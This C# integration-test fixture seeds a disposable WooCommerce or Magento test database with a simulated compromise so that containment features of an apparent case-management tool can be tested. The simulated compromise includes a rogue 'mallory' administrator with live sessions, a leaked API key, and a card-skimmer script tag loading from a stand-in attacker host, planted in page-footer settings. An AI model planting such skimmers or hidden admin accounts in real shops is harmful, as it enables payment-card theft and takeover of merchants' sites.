using System.Security.Cryptography;
using System.Text;
using CaseManagement.IntegrationTests.Infrastructure;
using CaseManagement.Shops;
using CaseManagement.ShopGeneration;
using CaseManagement.Shops.Model;
using CaseManagement.Shops.Php;
using MySqlConnector;

namespace CaseManagement.IntegrationTests.Containment;

/// <summary>
/// A generated shop in the test MariaDB (its own database, dropped afterwards) with an attacker's footprint: an
/// administrator account "mallory" with live sessions and credentials, a skimmer script where the platform keeps page
/// snippets, and on WooCommerce a leaked API key.
/// </summary>
public sealed class AttackedShop : IAsyncDisposable
{
    public const string Attacker = "mallory";
    public const string SkimmerHost = "skim.example.net";
    public const string LeakedKey = "ck_5e1d9c3b7a2f4e6d8c0b1a3f5e7d9c2b4a6f8e0d";

    private AttackedShop(ShopPlatform platform, string database, string prefix)
    {
        Platform = platform;
        Database = database;
        Prefix = prefix;
    }

    public ShopPlatform Platform { get; }

    public string Database { get; }

    public string Prefix { get; }

    public long AttackerId { get; private set; }

    /// <summary>The name the shop is registered under in the service, unique like its database.</summary>
    public string Name => $"ct-{Database[8..]}";

    public static async Task<AttackedShop> CreateAsync(ShopPlatform platform, string prefix)
    {
        var shop = new AttackedShop(platform, "shop_ct_" + Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(5)), prefix);
        await ExecuteOnServerAsync($"CREATE DATABASE `{shop.Database}` CHARACTER SET utf8mb4");
        var now = DateTimeOffset.UtcNow;
        await ShopGenerator.GenerateAsync(shop.Settings(), new ShopGenerationOptions(Customers: 40, Orders: 120, Seed: 11, now.AddDays(-30), now));
        shop.AttackerId = platform == ShopPlatform.WooCommerce ? await shop.SeedWordPressAsync() : await shop.SeedMagentoAsync();
        return shop;
    }

    /// <summary>What an admin posts to register the shop (the read-only user reads evidence, the main user contains).</summary>
    public object Registration()
    {
        var server = new MySqlConnectionStringBuilder(TestDatabases.Shop);
        return new
        {
            name = Name,
            platform = Platform == ShopPlatform.WooCommerce ? "woocommerce" : "magento",
            host = server.Server,
            port = (int)server.Port,
            database = Database,
            user = server.UserID,
            password = server.Password,
            readOnlyUser = "casemanagement_ro",
            readOnlyPassword = "casemanagement_ro",
            tablePrefix = Prefix,
            timeZone = "UTC",
        };
    }

    public async Task<string?> ScalarAsync(string sql, params (string Name, object? Value)[] parameters)
    {
        await using var connection = await OpenAsync();
        await using var command = new MySqlCommand(sql.Replace("{p}", Prefix), connection);
        foreach (var (name, value) in parameters)
        {
            command.Parameters.AddWithValue(name, value);
        }

        return await command.ExecuteScalarAsync() is { } result and not DBNull ? Convert.ToString(result, System.Globalization.CultureInfo.InvariantCulture) : null;
    }

    public async Task<int> ExecuteAsync(string sql, params (string Name, object? Value)[] parameters)
    {
        await using var connection = await OpenAsync();
        await using var command = new MySqlCommand(sql.Replace("{p}", Prefix), connection);
        foreach (var (name, value) in parameters)
        {
            command.Parameters.AddWithValue(name, value);
        }

        return await command.ExecuteNonQueryAsync();
    }

    /// <summary>A connection of the shop's own (the application user), e.g. to hold a lock as a busy shop would.</summary>
    public async Task<MySqlConnection> OpenAsync()
    {
        var connection = new MySqlConnection(Settings().ConnectionString);
        await connection.OpenAsync();
        return connection;
    }

    public async ValueTask DisposeAsync()
    {
        MySqlConnection.ClearAllPools();
        await ExecuteOnServerAsync($"DROP DATABASE IF EXISTS `{Database}`");
    }

    public ShopConnectionSettings Settings() =>
        new(Platform, new MySqlConnectionStringBuilder(TestDatabases.Shop) { Database = Database }.ConnectionString, Prefix, "UTC");

    private async Task<long> SeedWordPressAsync()
    {
        await ExecuteAsync("""
            INSERT INTO `{p}users` (user_login, user_pass, user_nicename, user_email, user_registered, display_name)
            VALUES ('mallory', '$wp$2y$10$abcdefghijklmnopqrstuv', 'mallory', 'mallory@evil.example', UTC_TIMESTAMP(), 'Mallory')
            """);
        var id = long.Parse((await ScalarAsync("SELECT ID FROM `{p}users` WHERE user_login = 'mallory'"))!);
        var capabilities = $"{Prefix}capabilities";
        await ExecuteAsync("""
            INSERT INTO `{p}usermeta` (user_id, meta_key, meta_value) VALUES
              (@id, @caps, 'a:1:{s:13:"administrator";b:1;}'),
              (@id, @level, '10'),
              (@id, 'session_tokens', 'a:1:{s:64:"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";a:4:{s:10:"expiration";i:1893456000;s:2:"ip";s:11:"203.0.113.9";s:2:"ua";s:11:"Mozilla/5.0";s:5:"login";i:1772409600;}}')
            """, ("@id", id), ("@caps", capabilities), ("@level", $"{Prefix}user_level"));
        await ExecuteAsync("""
            INSERT INTO `{p}woocommerce_api_keys` (user_id, description, permissions, consumer_key, consumer_secret, truncated_key)
            VALUES (@id, 'Mobile app', 'read_write', @hash, 'cs_1f2e3d4c5b6a798081726354453627180919a0b', @truncated)
            """, ("@id", id), ("@hash", WcApiHash(LeakedKey)), ("@truncated", LeakedKey[^7..]));
        await ExecuteAsync("""
            INSERT INTO `{p}options` (option_name, option_value, autoload)
            VALUES ('theme_mods_storefront', @script, 'yes')
            """, ("@script", PhpSerializer.Serialize(PhpArray.Map(("footer_script", $"<script src=\"https://{SkimmerHost}/c.js\"></script>")))));
        return id;
    }

    private async Task<long> SeedMagentoAsync()
    {
        await ExecuteAsync("""
            INSERT INTO `{p}admin_user` (firstname, lastname, email, username, password, is_active)
            VALUES ('Mallory', 'M', 'mallory@evil.example', 'mallory', 'hash:argon2', 1)
            """);
        var id = long.Parse((await ScalarAsync("SELECT user_id FROM `{p}admin_user` WHERE username = 'mallory'"))!);
        await ExecuteAsync("INSERT INTO `{p}admin_user_session` (session_id, user_id, status, ip) VALUES (NULL, @id, 1, '203.0.113.9')", ("@id", id));
        await ExecuteAsync("""
            INSERT INTO `{p}core_config_data` (scope, scope_id, path, value)
            VALUES ('default', 0, 'design/footer/absolute_footer', @script)
            """, ("@script", $"<script src=\"https://{SkimmerHost}/c.js\"></script>"));
        return id;
    }

    private static string WcApiHash(string consumerKey) =>
        Convert.ToHexStringLower(HMACSHA256.HashData(Encoding.UTF8.GetBytes("wc-api"), Encoding.UTF8.GetBytes(consumerKey)));

    private static async Task ExecuteOnServerAsync(string sql)
    {
        await using var connection = new MySqlConnection(new MySqlConnectionStringBuilder(TestDatabases.Shop) { Database = "" }.ConnectionString);
        await connection.OpenAsync();
        await using var command = new MySqlCommand(sql, connection);
        await command.ExecuteNonQueryAsync();
    }
}
